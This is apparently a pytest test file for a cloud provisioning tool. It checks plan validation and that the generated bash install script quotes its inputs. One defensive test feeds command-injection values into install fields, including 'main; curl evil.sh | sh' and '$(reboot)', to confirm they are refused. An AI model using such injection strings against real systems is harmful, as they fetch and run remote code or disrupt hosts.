"""The provisioning plan's validation and the install script it produces, without any cloud."""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

import pytest

from ops.chameleon.plan import PlanError, load_plan
from ops.chameleon.remote import install_script

EXAMPLE = Path(__file__).resolve().parents[2] / "ops" / "chameleon" / "plan.example.yaml"


def test_the_shipped_example_plan_is_valid_and_names_its_servers():
    plan = load_plan(EXAMPLE)
    assert plan.site == "CHI@UC"
    assert [name for _, name in plan.server_names()] == ["imp-staging-app-1", "imp-staging-gpu-1"]
    assert plan.public_server == "imp-staging-app-1"
    # Relative paths in a plan are relative to the plan, not to wherever the operator stands.
    assert plan.install.env_file == str(EXAMPLE.parent / "imp.env")


def test_a_toml_plan_reads_like_the_yaml_one(tmp_path):
    (tmp_path / "p.toml").write_text(
        'name = "imp-kvm"\nsite = "KVM@TACC"\nkey_pair = "k"\n'
        '[lease]\nname = "imp-kvm"\n[floating_ip]\nnode = "app"\n'
        '[[nodes]]\nname = "app"\ncount = 3\nflavor = "m1.xlarge"\n')
    plan = load_plan(tmp_path / "p.toml")
    assert [name for _, name in plan.server_names()] == ["imp-kvm-app-1", "imp-kvm-app-2", "imp-kvm-app-3"]
    assert plan.install is None


@pytest.mark.parametrize(("text", "message"), [
    ("- just\n- a list\n", "a plan is a mapping of fields, got list"),
    ("name: [unclosed\n", "not valid YAML"),
])
def test_unreadable_plans_say_why(tmp_path, text, message):
    (tmp_path / "p.yaml").write_text(text)
    with pytest.raises(PlanError, match=message.replace("[", r"\[")):
        load_plan(tmp_path / "p.yaml")


def test_a_missing_plan_file_is_named(tmp_path):
    with pytest.raises(PlanError, match="cannot read plan .*nope.yaml"):
        load_plan(tmp_path / "nope.yaml")


@pytest.mark.parametrize(("field", "value"), [
    ("ref", "main; curl evil.sh | sh"),
    ("compose_file", "ops/compose/compose.yaml && reboot"),
    ("repo", "https://x/imp.git $(reboot)"),
])
def test_shell_metacharacters_in_install_fields_are_refused(tmp_path, field, value):
    base = EXAMPLE.read_text()
    import yaml

    data = yaml.safe_load(base)
    data["install"][field] = value
    (tmp_path / "p.yaml").write_text(yaml.safe_dump(data))
    with pytest.raises(PlanError, match=f"install.{field}: String should match pattern"):
        load_plan(tmp_path / "p.yaml")


def test_install_script_is_valid_shell_and_quotes_what_it_is_given():
    plan = load_plan(EXAMPLE)
    plan = plan.model_copy(update={"install": plan.install.model_copy(update={"profiles": ["slack"]})})
    script = install_script(plan.install, ["api", "worker"])
    subprocess.run(["bash", "-n", "-c", script], check=True)  # parses as bash
    assert script.splitlines()[-1].endswith(
        "compose -f ops/compose/compose.yaml --env-file ops/compose/imp.env --profile slack up -d --remove-orphans "
        "api worker")
    assert f"git clone --quiet {shlex.quote(plan.install.repo)} imp" in script
    assert "umask 077" in script  # the env file holds secrets
